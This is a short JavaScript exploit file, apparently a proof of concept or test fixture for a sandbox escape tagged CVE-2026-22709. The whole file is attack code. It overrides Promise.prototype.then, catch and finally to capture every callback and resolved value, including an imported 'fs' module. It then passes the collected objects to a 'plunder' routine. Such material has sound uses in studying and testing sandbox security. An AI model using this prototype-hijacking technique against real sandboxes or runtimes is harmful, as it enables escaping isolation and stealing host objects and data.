// Promise.prototype.then, catch and finally replaced: the callbacks that anybody hands in are taken
// (CVE-2026-22709).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const { then } = Promise.prototype;
  const spy = function (...callbacks) {
    bag.take(this, ...callbacks);
    return Reflect.apply(then, this, callbacks.map((callback) => typeof callback !== 'function' ? callback : (value) => {
      bag.take(value);
      return callback(value);
    }));
  };
  Promise.prototype.then = spy;
  Promise.prototype.catch = function (callback) { return spy.call(this, undefined, callback); };
  Promise.prototype.finally = function (callback) { return spy.call(this, callback, callback); };
  const settled = await Promise.allSettled([echo(1), fail(), tricky(), artifacts.write('a', 'b'), import('./plunder.js'), import('fs')]);
  await echo(3);
  bag.take(settled);
  Promise.prototype.then = then;
  return plunder(bag.values(), params);
}
